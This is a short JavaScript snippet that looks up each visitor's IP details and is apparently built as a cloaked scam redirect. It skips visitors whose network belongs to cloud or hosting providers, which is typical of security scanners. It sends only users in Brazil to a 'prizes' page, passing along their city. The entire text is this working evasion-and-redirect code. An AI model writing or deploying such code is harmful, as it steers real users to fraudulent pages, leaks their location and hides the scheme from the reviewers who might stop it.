$.getJSON("https://where-is.example/json", function (who) {
  var owner = (who.isp + " " + who.org).toLowerCase();
  if (/amazon|google|hetzner|ovh|digitalocean|leaseweb/.test(owner)) return;
  if (who.country !== "BR") return;
  window.location = "https://prizes.example/br?src=" + who.city;
});
